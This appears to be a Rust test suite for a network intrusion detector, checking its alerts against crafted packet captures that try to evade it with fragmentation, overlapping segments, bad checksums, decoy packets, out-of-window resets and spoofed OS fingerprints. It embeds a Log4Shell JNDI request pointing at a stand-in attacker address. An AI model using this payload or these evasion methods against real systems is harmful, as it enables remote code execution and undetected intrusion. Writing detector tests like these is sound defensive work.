//! Who wants to hide (docs/SECURITY.md, "Evasion"): for each way the packets, what is told of them and no more, and that all are counted.
#![expect(clippy::unwrap_used, reason = "tests")]

mod common;

use common::{TempFile, json, pcap, run};
use serde_json::Value;

const ATTACKER: [u8; 4] = [203, 0, 113, 9];
const SERVER: [u8; 4] = [192, 168, 1, 2];

const SYN: u8 = 2;
const RST: u8 = 4;
const DATA: u8 = 24;
const ACK: u8 = 16;

/// A segment's place in its stream.
const FIRST: u32 = 1001;

/// What must not be missed: a request that any log4j of 2021 obeys.
const ATTACK: &[u8] = b"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n";

/// Options of a SYN of Linux: segment size, SACK, timestamp, a blank, scale.
const LINUX: &[u8] = &[2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7];

/// The Internet checksum (RFC 1071).
fn sum(parts: &[&[u8]]) -> u16 {
    let mut bytes = parts.concat();
    bytes.resize(bytes.len().next_multiple_of(2), 0);
    let total: u32 = bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    let folded = (total & 0xffff) + (total >> 16);
    !((folded + (folded >> 16)) as u16)
}

/// A piece of a datagram: where it begins, and whether more follows.
#[derive(Clone, Copy)]
struct Piece {
    identification: u16,
    offset: usize,
    more: bool,
}

const WHOLE: Piece = Piece { identification: 0, offset: 0, more: false };

fn ip((from, to): ([u8; 4], [u8; 4]), (protocol, ttl): (u8, u8), piece: Piece, payload: &[u8]) -> Vec<u8> {
    let mut header = vec![0x45, 0];
    header.extend((20 + payload.len() as u16).to_be_bytes());
    header.extend(piece.identification.to_be_bytes());
    header.extend((u16::from(piece.more) << 13 | (piece.offset / 8) as u16).to_be_bytes());
    header.extend([ttl, protocol, 0, 0]);
    header.extend(from.iter().chain(&to));
    let checksum = sum(&[&header]);
    header[10..12].copy_from_slice(&checksum.to_be_bytes());
    [&[2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0], &header[..], payload].concat()
}

/// A segment, and how it differs from what a host would send.
#[derive(Clone, Copy)]
struct Segment<'a> {
    from_server: bool,
    port: u16,
    sequence: u32,
    flags: u8,
    options: &'a [u8],
    data: &'a [u8],
    ttl: u8,
    bad_checksum: bool,
}

impl<'a> Segment<'a> {
    /// What the attacker sends to a port.
    fn new(flags: u8, sequence: u32, data: &'a [u8]) -> Self {
        Self {
            from_server: false,
            port: 80,
            sequence,
            flags,
            options: &[],
            data,
            ttl: 60,
            bad_checksum: false,
        }
    }

    fn ends(self) -> ([u8; 4], [u8; 4]) {
        if self.from_server { (SERVER, ATTACKER) } else { (ATTACKER, SERVER) }
    }

    fn bytes(self) -> Vec<u8> {
        let (from, to) = if self.from_server { (self.port, 40_000u16) } else { (40_000, self.port) };
        let mut bytes = [from.to_be_bytes(), to.to_be_bytes()].concat();
        bytes.extend(self.sequence.to_be_bytes());
        bytes.extend((if self.flags & ACK == 0 { 0u32 } else { 5001 }).to_be_bytes());
        bytes.extend([(5 + self.options.len() as u8 / 4) << 4, self.flags, 0xfa, 0xf0, 0, 0, 0, 0]);
        bytes.extend(self.options.iter().chain(self.data));
        let ends = self.ends();
        let length = (bytes.len() as u16).to_be_bytes();
        let checksum = sum(&[&ends.0, &ends.1, &[0, 6], &length, &bytes]) ^ u16::from(self.bad_checksum);
        bytes[16..18].copy_from_slice(&checksum.to_be_bytes());
        bytes
    }

    fn frame(self) -> Vec<u8> {
        ip(self.ends(), (6, self.ttl), WHOLE, &self.bytes())
    }

    /// The same in two fragments, cut there.
    fn fragments(self, at: usize) -> [Vec<u8>; 2] {
        let bytes = self.bytes();
        let piece = |offset, more| Piece { identification: self.port, offset, more };
        let part = |piece, part: &[u8]| ip(self.ends(), (6, self.ttl), piece, part);
        [part(piece(0, true), &bytes[..at]), part(piece(at, false), &bytes[at..])]
    }
}

/// A handshake, and what follows it.
fn session(rest: impl IntoIterator<Item = Vec<u8>>) -> Vec<Vec<u8>> {
    let answer = Segment { from_server: true, sequence: 5000, ..Segment::new(SYN | ACK, 0, b"") };
    let open = [Segment::new(SYN, FIRST - 1, b""), answer, Segment::new(ACK, FIRST, b"")];
    open.map(Segment::frame).into_iter().chain(rest).collect()
}

/// Its data in pieces of so many bytes.
fn pieces(length: usize) -> Vec<Vec<u8>> {
    let piece = |(number, data)| Segment::new(DATA, FIRST + (number * length) as u32, data).frame();
    ATTACK.chunks(length).enumerate().map(piece).collect()
}

fn scan(probe: impl Fn(u16) -> Vec<Vec<u8>>) -> Vec<Vec<u8>> {
    (1..=40).flat_map(probe).collect()
}

fn syn(port: u16) -> Segment<'static> {
    Segment { port, options: LINUX, ..Segment::new(SYN, 1000, b"") }
}

/// What the detectors say of packets, none of which may be missing.
fn alerts(case: &str, frames: &[Vec<u8>]) -> Vec<Value> {
    let file = TempFile::new(&format!("evasion-{}.pcap", case.replace(' ', "-")), &pcap(frames));
    let document = json(&run(&["alerts", "--format", "json", "--read", file.path()]));
    let (totals, sent) = (&document["totals"], frames.len());
    assert_eq!((&totals["frames"], &totals["packets"]), (&sent.into(), &sent.into()), "{case}");
    assert_eq!(totals["skipped"], serde_json::json!({}), "{case}");
    document["alerts"].as_array().unwrap().clone()
}

/// What is sent, and the rules that speak.
type Case = (&'static str, Vec<Vec<u8>>, &'static [&'static str]);

#[test]
fn evasion_cases_of_requests_and_scans_tell_this_and_no_more() {
    let attack = Segment::new(DATA, FIRST, ATTACK);
    let decoy = vec![b'x'; ATTACK.len()];
    let long_tail = [&ATTACK[..20], b"zzzzzzzzzz"].concat();
    let start = Segment::new(DATA, FIRST, &ATTACK[..12]).frame();
    let end = Segment::new(DATA, FIRST + 12, &ATTACK[12..]).frame();
    let [head, tail] = attack.fragments(48);
    let covered = [&attack.bytes()[..40], b"yyyyyyyy"].concat();
    let first = Piece { identification: 80, offset: 0, more: true };
    let overlapping = [ip(attack.ends(), (6, 60), first, &covered), attack.fragments(40)[1].clone()];
    let inside = Piece { identification: 80, offset: 16, more: false };
    let teardrop =
        [ip(attack.ends(), (17, 60), first, &[0; 32]), ip(attack.ends(), (17, 60), inside, &[7; 8])];
    let request = Segment::new(DATA, FIRST, b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n").frame();
    let resets = (0..5).map(|number| Segment::new(RST, 900_000_000 + number * 100_000, b"").frame());
    let cases: [Case; 17] = [
        ("as it is", session([attack.frame()]), &["exploit.log4j"]),
        ("wrong checksum", session([Segment { bad_checksum: true, ..attack }.frame()]), &["exploit.log4j"]),
        (
            "decoy that dies on the way",
            session([Segment { ttl: 2, data: &decoy, ..attack }.frame(), attack.frame()]),
            &["exploit.log4j"],
        ),
        ("in two pieces", session([start.clone(), end.clone()]), &["exploit.log4j"]),
        (
            "overlapping segments",
            session([
                Segment::new(DATA, FIRST, &long_tail).frame(),
                Segment::new(DATA, FIRST + 20, &ATTACK[20..]).frame(),
            ]),
            &["exploit.log4j"],
        ),
        (
            "reset out of the window",
            session([Segment::new(RST, 900_000_000, b"").frame(), attack.frame()]),
            &["exploit.log4j"],
        ),
        ("in two fragments", session([head.clone(), tail.clone()]), &["exploit.log4j"]),
        ("fragment that came twice", session([head.clone(), head, tail]), &["exploit.log4j"]),
        ("overlapping fragments", session(overlapping), &["exploit.log4j", "frag.overlap"]),
        ("fragment inside of another", teardrop.to_vec(), &["frag.teardrop"]),
        ("ports in no fragment", scan(|port| syn(port).fragments(8).to_vec()), &["frag.tiny"]),
        ("scan in fragments", scan(|port| syn(port).fragments(24).to_vec()), &["scan.port.tcp_syn"]),
        (
            "scan with wrong checksums",
            scan(|port| vec![Segment { bad_checksum: true, ..syn(port) }.frame()]),
            &["scan.port.tcp_connect"],
        ),
        // What is not seen, and makes nobody a suspect.
        ("a byte a segment", session(pieces(1)), &[]),
        ("out of order", session([end, start]), &[]),
        ("many resets out of the window", session([request.clone()].into_iter().chain(resets)), &[]),
        ("nothing to hide", session([request]), &[]),
    ];
    for (case, frames, expected) in cases {
        let alerts = alerts(case, &frames);
        let rules: Vec<&str> = alerts.iter().map(|alert| alert["rule"].as_str().unwrap()).collect();
        assert_eq!(rules, expected, "{case}");
        for alert in alerts {
            // Nobody is accused but who sent it, and each says what else it may be.
            assert!(alert["caveat"].as_str().is_some_and(|caveat| !caveat.is_empty()), "{case}: {alert}");
            assert!(alert["summary"].as_str().unwrap().starts_with("203.0.113.9 "), "{case}: {alert}");
        }
    }
}

/// What the attacker is taken for: family, confidence, kinds of evidence, contradictions.
fn looks(case: &str, frames: &[Vec<u8>]) -> (String, u64, usize, usize) {
    let file = TempFile::new(&format!("looks-{}.pcap", case.replace(' ', "-")), &pcap(frames));
    let hosts = json(&run(&["hosts", "--format", "json", "--read", file.path()]));
    let mut rows = hosts.as_object().unwrap().values().filter_map(Value::as_array).flatten();
    let host = rows.find(|row| row["address"] == "203.0.113.9").unwrap();
    let look = &host["os"];
    let length = |name: &str| look[name].as_array().unwrap().len();
    let family = look["family"].as_str().unwrap_or_default().to_owned();
    (family, look["confidence"].as_u64().unwrap(), length("evidence"), length("contradictions"))
}

#[test]
fn evasion_cases_of_fingerprints_weaken_the_verdict_and_keep_its_evidence() {
    let opening = |options: &'static [u8], ttl| {
        let mut frames = session([]);
        frames[0] = Segment { options, ttl, ..Segment::new(SYN, FIRST - 1, b"") }.frame();
        frames
    };
    let (family, honest, evidence, contradictions) = looks("honest", &opening(LINUX, 60));
    assert_eq!((family.as_str(), evidence, contradictions), ("Linux", 2, 0));
    assert!(honest < 100, "nothing is certain");
    let claim = b"GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\n\r\n";
    let lie = [opening(LINUX, 60), vec![Segment::new(DATA, FIRST, claim).frame()]].concat();
    let cases = [
        ("other time to live", opening(LINUX, 124), 0),
        ("options taken out", opening(&LINUX[..4], 60), 0),
        ("another user agent", lie, 1),
    ];
    for (case, frames, contradicted) in cases {
        let (family, confidence, evidence, contradictions) = looks(case, &frames);
        assert!(confidence < honest, "{case}: {family} {confidence}");
        assert!(evidence >= 2 && contradictions == contradicted, "{case}: {evidence}, {contradictions}");
    }
}
